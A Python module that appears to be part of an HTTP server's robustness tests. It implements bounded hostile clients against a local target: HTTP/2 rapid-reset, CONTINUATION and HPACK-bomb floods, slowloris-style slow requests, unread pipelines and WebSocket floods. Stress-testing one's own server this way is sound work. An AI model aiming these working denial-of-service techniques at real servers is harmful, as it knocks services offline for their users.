"""Clients that mean harm, each bounded and over by itself, whatever the server does about it.

That a connection is ended in the middle of it is what they have to expect.
"""

from __future__ import annotations

import contextlib
import random
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterable, Iterator

from hpack import Encoder

from .target import Target

import http2_peer as wire  # isort: skip  # which target.py has found

PATIENCE = 0.5
"""Seconds that one holds what it has got hold of, or waits for a server that does not read."""

ASK = b"GET /hello HTTP/1.1\r\nhost: localhost\r\n\r\n"
UPGRADE = (
    b"GET / HTTP/1.1\r\nhost: localhost\r\nconnection: upgrade\r\nupgrade: websocket\r\n"
    b"sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)
POST = b"POST /digest HTTP/1.1\r\nhost: localhost\r\n"
IDS = range(1, 2**31, 2)


def _block(method: str = "GET", path: str = "/hello", *more: tuple[str, str]) -> bytes:
    """A field block that leaves the dynamic table alone, so that it may be sent again and again."""
    fields = [(":method", method), (":scheme", "https"), (":authority", "localhost")]
    return b"".join(
        b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in [*fields, (":path", path), *more]
    )


def _head(stream_id: int, block: bytes, *, end: bool = True, whole: bool = True) -> bytes:
    return wire.frame(wire.HEADERS, end | whole << 2, stream_id, block)


@contextlib.contextmanager
def connected(target: Target, protocol: str = "http/1.1") -> Iterator[socket.socket]:
    """A connection that is not read from unless somebody does, over when the server says so."""
    with (
        contextlib.suppress(OSError),  # TimeoutError and SSLError are among them
        target.connect(protocol, receive_buffer=16 * 1024) as sock,
    ):
        sock.settimeout(PATIENCE)
        yield sock


def send_http2(target: Target, frames: Iterable[bytes], *settings: tuple[int, int]) -> None:
    """Send frames without reading what comes, then hold the connection a little."""
    with connected(target, "h2") as sock:
        sock.sendall(wire.PREFACE + wire.settings(*settings) + wire.SETTINGS_ACK)
        pieces: list[bytes] = []
        for piece in frames:
            pieces.append(piece)
            if len(pieces) == 100:
                sock.sendall(b"".join(pieces))
                pieces.clear()
        sock.sendall(b"".join(pieces))
        time.sleep(PATIENCE)


def _reset(sock: socket.socket) -> None:
    """Leave with an RST instead of a FIN."""
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


# HTTP/2.


def rapid_resets(target: Target) -> None:
    block = _block()
    send_http2(target, (_head(id, block) + wire.rst_stream(id) for id in IDS[:5_000]))


def resets_provoked(target: Target) -> None:
    """MadeYouReset: the server resets, for a WINDOW_UPDATE of 0."""
    block = _block()
    send_http2(target, (_head(id, block) + wire.window_update(id, 0) for id in IDS[:5_000]))


def streams_beyond_the_limit(target: Target) -> None:
    block = _block("POST", "/deaf")
    send_http2(target, (_head(id, block, end=False) for id in IDS[:3_000]))


def pings(target: Target) -> None:
    send_http2(target, (wire.ping() for _ in range(100_000)))


def settings(target: Target) -> None:
    send_http2(target, (wire.settings((4, 65_535 + n % 9)) for n in range(20_000)))


def empty_data(target: Target) -> None:
    begin = _head(1, _block("POST", "/digest"), end=False)
    send_http2(target, (begin, *(wire.data(1) for _ in range(30_000))))


def tiny_data(target: Target) -> None:
    begin = _head(1, _block("POST", "/digest"), end=False)
    send_http2(target, (begin, *(wire.data(1, b"x") for _ in range(30_000))))


def window_updates(target: Target) -> None:
    begin = _head(1, _block("POST", "/digest"), end=False)
    send_http2(target, (begin, *(wire.window_update(1, 1) for _ in range(30_000))))


def priorities(target: Target) -> None:
    send_http2(target, (wire.priority(1, 3, n % 256) for n in range(30_000)))


def continuations(target: Target) -> None:
    begin = _head(1, _block()[:5], whole=False)
    more = (wire.frame(wire.CONTINUATION, 0, 1, b"") for _ in range(30_000))
    send_http2(target, (begin, *more))


def field_bomb(target: Target) -> None:
    """One entry of 4,000 octets in the dynamic table, asked for thousands of times."""
    entry = Encoder().encode([*wire.GET, (b"x", b"0" * 4_000)], huffman=False)
    bomb = b"\xbe" * 15_000
    frames = (_head(id, _block() + bomb) for id in IDS[1:20])
    send_http2(target, (_head(1, entry), *frames))


def window_of_one(target: Target) -> None:
    """Downloads of 50 MB, by octets."""
    block = _block("GET", "/download?size=50000000")
    begin = [_head(id, block) for id in IDS[:100]]
    more = [wire.window_update(id, 1) for _ in range(100) for id in IDS[:100]]
    send_http2(target, begin + more, (wire.INITIAL_WINDOW_SIZE, 1))


def downloads_never_read(target: Target) -> None:
    block = _block("GET", "/download?size=50000000")
    wide = wire.window_update(0, 2**31 - 70_000)
    frames = (wide, *(_head(id, block) for id in IDS[:100]))
    send_http2(target, frames, (wire.INITIAL_WINDOW_SIZE, 2**31 - 1))


def uploads_never_read(target: Target) -> None:
    block = _block("POST", "/deaf")
    begin = [_head(id, block, end=False) for id in IDS[:60]]
    send_http2(target, begin + [wire.data(id, bytes(16_000)) for id in IDS[:60]])


def head_without_end(target: Target) -> None:
    send_http2(target, [_head(1, _block()[:20], whole=False)])


def garbage_frames(target: Target) -> None:
    chance = random.Random()

    def frame() -> bytes:
        payload = chance.randbytes(chance.randrange(40))
        return wire.frame(chance.randrange(16), chance.randrange(256), chance.randrange(9), payload)

    for _ in range(10):
        with connected(target, "h2") as sock:
            sock.sendall(wire.PREFACE + wire.settings() + b"".join(frame() for _ in range(50)))
            sock.recv(65_536)


# HTTP/1.1.


def slow_head(target: Target) -> None:
    with connected(target) as sock:
        for octet in ASK[:-2]:
            sock.sendall(bytes([octet]))
            time.sleep(PATIENCE / len(ASK))


def slow_body(target: Target) -> None:
    with connected(target) as sock:
        sock.sendall(POST + b"content-length: 1000\r\n\r\n")
        for _ in range(50):
            sock.sendall(b"x")
            time.sleep(PATIENCE / 50)


def pipeline_never_read(target: Target) -> None:
    with connected(target) as sock:
        sock.sendall(ASK * 20_000)
        time.sleep(PATIENCE)


def tiny_chunks(target: Target) -> None:
    with connected(target) as sock:
        sock.sendall(POST + b"transfer-encoding: chunked\r\n\r\n" + b"1;x=y\r\nx\r\n" * 30_000)
        sock.recv(65_536)


def garbage_requests(target: Target) -> None:
    chance = random.Random()
    for _ in range(10):
        octets = bytearray(
            ASK + POST + b"transfer-encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n"
        )
        for _ in range(5):
            octets[chance.randrange(len(octets))] = chance.randrange(256)
        with connected(target) as sock:
            sock.sendall(octets)
            sock.recv(65_536)


def messages_never_read(target: Target) -> None:
    """A WebSocket that has everything sent back."""
    message = b"\x82\xff" + (65_536).to_bytes(8, "big") + bytes(4 + 65_536)
    with connected(target) as sock:
        sock.sendall(UPGRADE + message * 100)


def messages_tiny(target: Target) -> None:
    with connected(target) as sock:
        sock.sendall(UPGRADE + b"\x82\x80\0\0\0\0" * 10_000 + b"\x89\x80\0\0\0\0" * 10_000)
        time.sleep(PATIENCE)


# Connections.


def handshakes_left(target: Target) -> None:
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
    for octets in (b"", hello, b"\x16", b"GET / HTTP/1.1\r\n\r\n", bytes(50)):
        with (
            contextlib.suppress(OSError),
            socket.create_connection(("127.0.0.1", target.port)) as sock,
        ):
            sock.sendall(octets)
            if len(octets) % 2:
                _reset(sock)


def handshakes_refused(target: Target) -> None:
    context = ssl.create_default_context()  # which does not know the authority
    for _ in range(10):
        with (
            contextlib.suppress(OSError),
            socket.create_connection(("127.0.0.1", target.port)) as sock,
        ):
            context.wrap_socket(sock, server_hostname="localhost").close()


def vanish_midway(target: Target) -> None:
    """Leave in the middle of an upload, of a download, between requests: by FIN and by RST."""
    begin = _head(1, _block("GET", "/download?size=9000000"))
    begin += _head(3, _block("POST", "/digest"), end=False) + wire.data(3, b"some")
    for leave in (_reset, lambda sock: sock.shutdown(socket.SHUT_WR), lambda sock: None):
        with connected(target, "h2") as sock:
            sock.sendall(wire.PREFACE + wire.settings() + begin)
            sock.recv(1000)
            leave(sock)
        for octets in (ASK, POST + b"content-length: 10\r\n\r\nhalf", UPGRADE + b"\x82"):
            with connected(target) as sock:
                sock.sendall(octets)
                leave(sock)


ATTACKS: dict[str, Callable[[Target], None]] = {
    attack.__name__.replace("_", " "): attack
    for attack in (
        *(rapid_resets, resets_provoked, streams_beyond_the_limit, pings, settings, empty_data),
        *(tiny_data, window_updates, priorities, continuations, field_bomb, window_of_one),
        *(downloads_never_read, uploads_never_read, head_without_end, garbage_frames),
        *(slow_head, slow_body, pipeline_never_read, tiny_chunks, garbage_requests),
        *(messages_never_read, messages_tiny, handshakes_left, handshakes_refused, vanish_midway),
    )
}
